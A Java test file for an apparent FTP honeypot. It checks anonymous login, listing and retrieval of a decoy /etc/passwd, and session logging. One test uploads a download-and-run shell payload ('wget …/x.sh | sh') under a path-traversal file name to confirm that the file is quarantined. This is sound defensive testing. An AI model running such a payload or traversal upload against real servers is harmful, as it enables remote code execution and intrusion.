package dev.mirage.service.ftp;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mirage.core.Services;
import dev.mirage.store.SessionRow;
import dev.mirage.testing.Sensor;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import org.apache.commons.net.ftp.FTP;
import org.apache.commons.net.ftp.FTPClient;
import org.apache.commons.net.ftp.FTPFile;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/** The open personality with commons-net FTPClient, in passive and active mode: anonymous login, LIST, RETR, STOR. */
class FtpClientTest {
    @RegisterExtension
    final Sensor sensor = Sensor.with("ftp").services(new Services(Map.of("ftp", FtpService::new)))
            .set("sensor.personality", "open");

    private FTPClient connect(boolean passive) throws Exception {
        FTPClient ftp = new FTPClient();
        ftp.setDefaultTimeout(5000);
        ftp.setDataTimeout(java.time.Duration.ofSeconds(5));
        ftp.connect("127.0.0.1", sensor.port("ftp"));
        assertThat(ftp.getReplyString()).startsWith("220 www FTP server (Version wu-2.6.2-5) ready.");
        if (passive) {
            ftp.enterLocalPassiveMode();
        } else {
            ftp.enterLocalActiveMode();
        }
        assertThat(ftp.login("anonymous", "mozilla@example.com")).isTrue();
        return ftp;
    }

    @Test
    void passiveListAndRetrOfTheDecoyPasswd() throws Exception {
        listAndRetr(true);
    }

    @Test
    void activeListAndRetrOfTheDecoyPasswd() throws Exception {
        listAndRetr(false);
    }

    private void listAndRetr(boolean passive) throws Exception {
        FTPClient ftp = connect(passive);
        assertThat(ftp.getSystemType()).isEqualTo("UNIX Type: L8");
        FTPFile[] files = ftp.listFiles("/");
        assertThat(Arrays.stream(files).map(FTPFile::getName)).containsExactly("bin", "etc", "lib", "pub");
        assertThat(files[1].isDirectory()).isTrue();
        assertThat(files[1].getUser()).isEqualTo("root");
        assertThat(ftp.changeWorkingDirectory("etc")).isTrue();
        assertThat(ftp.printWorkingDirectory()).isEqualTo("/etc");
        assertThat(ftp.listNames()).containsExactly("group", "ld.so.cache", "passwd", "shadow");
        ByteArrayOutputStream got = new ByteArrayOutputStream();
        assertThat(ftp.retrieveFile("passwd", got)).isTrue();
        String passwd = got.toString(StandardCharsets.UTF_8);
        assertThat(passwd).startsWith("root:x:0:0:root:/root:/bin/bash\n").contains("ftp:x:14:50:FTP User:/var/ftp");
        ftp.setFileType(FTP.BINARY_FILE_TYPE);
        ByteArrayOutputStream binary = new ByteArrayOutputStream();
        assertThat(ftp.retrieveFile("/etc/passwd", binary)).isTrue();
        assertThat(binary.toString(StandardCharsets.UTF_8)).isEqualTo(passwd);
        assertThat(ftp.getSize("/etc/passwd")).isEqualTo(String.valueOf(binary.size()));
        assertThat(ftp.retrieveFile("/bin/ls", new ByteArrayOutputStream())).isFalse();
        assertThat(ftp.getReplyString()).startsWith("550 /bin/ls: Permission denied.");
        ftp.logout();
        ftp.disconnect();

        List<SessionRow> rows = sensor.awaitSessions(1);
        assertThat(rows.get(0).credentials()).singleElement().satisfies(c -> {
            assertThat(c.user()).isEqualTo("anonymous");
            assertThat(c.secret()).isEqualTo("mozilla@example.com");
            assertThat(c.success()).isTrue();
        });
        assertThat(rows.get(0).reason()).isEqualTo("quit");
        List<String> json = sensor.events(rows.get(0).id()).stream().map(e -> e.json()).toList();
        assertThat(json).anyMatch(j -> j.contains("\"verb\":\"RETR\"") && j.contains("226 Transfer complete."));
        assertThat(json).anyMatch(j -> j.contains("\"verb\":\"" + (passive ? "PASV" : "PORT") + "\""));
        assertThat(sensor.statusLines()).doesNotContain("Exception");
    }

    @Test
    void storInTheOpenPersonalityGoesToTheQuarantine() throws Exception {
        FTPClient ftp = connect(true);
        ftp.setFileType(FTP.BINARY_FILE_TYPE);
        byte[] payload = "#!/bin/sh\nwget http://198.51.100.7/x.sh | sh\n".getBytes(StandardCharsets.US_ASCII);
        assertThat(ftp.storeFile("../../tmp/evil.sh", new ByteArrayInputStream(payload))).isTrue();
        ftp.logout();
        ftp.disconnect();

        String hash = HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(payload));
        List<SessionRow> rows = sensor.awaitSessions(1);
        String upload = sensor.events(rows.get(0).id()).stream().filter(e -> e.action().equals("file.received"))
                .map(e -> e.json()).findFirst().orElseThrow();
        assertThat(upload).contains("\"name\":\"../../tmp/evil.sh\"", "\"sha256\":\"" + hash + "\"",
                "\"size\":" + payload.length, "\"kind\":\"ftp-upload\"", "\"stored\":\"ftp/quarantine/" + hash + "\"");
        Path kept = sensor.data().resolve("ftp/quarantine").resolve(hash);
        assertThat(Files.readAllBytes(kept)).isEqualTo(payload);
        assertThat(Files.isExecutable(kept)).isFalse();
        try (var s = Files.list(sensor.data().resolve("ftp/quarantine"))) {
            assertThat(s.map(p -> p.getFileName().toString())).containsExactly(hash);
        }
    }
}
